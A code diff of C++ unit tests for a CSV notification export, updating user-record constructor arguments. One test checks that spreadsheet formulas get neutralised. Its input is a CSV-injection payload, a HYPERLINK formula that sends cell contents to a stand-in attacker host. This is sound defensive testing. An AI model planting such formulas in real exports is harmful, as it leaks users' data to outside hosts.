@@ -43,7 +43,7 @@ TEST(PlanReport, NotifyCsv) {
   sso.auth = AuthAction::kStrip;
   plan.add(sso);
   InstanceIndex source;
-  source.users.push_back(IndexedUser{"a,b", "x\"y@z", "", "", "", std::nullopt, "", "", {}, {}, 2});
+  source.users.push_back(IndexedUser{"a,b", "x\"y@z", "", "", "", std::nullopt, "", 0, 0, {}, 2, ""});
   source.finish();
   std::vector<Conflict> cs = {conflict("user_email_taken", "a,b", 2, 3, 1, ""), conflict("user_password_reset", "A,B", 2, 3, 1, ""),
                               conflict("user_auth_changed", "sso", 4, 0, 1, ""), conflict("emoji_clash", "sso", 5, 5, 1, "")};
@@ -62,7 +62,7 @@ TEST(PlanReport, NotifyCsvNeutralisesFormulas) {
   plan.add(a);
   InstanceIndex source;
   source.users.push_back(
-      IndexedUser{"-eve", "=HYPERLINK(\"https://evil.example/?\"&A3,\"reset here\")", "", "", "", std::nullopt, "", "", {}, {}, 2});
+      IndexedUser{"-eve", "=HYPERLINK(\"https://evil.example/?\"&A3,\"reset here\")", "", "", "", std::nullopt, "", 0, 0, {}, 2, ""});
   source.finish();
   EXPECT_EQ(format_notify_csv(plan, source, {}),
             "username,email,action,target,reason\n"
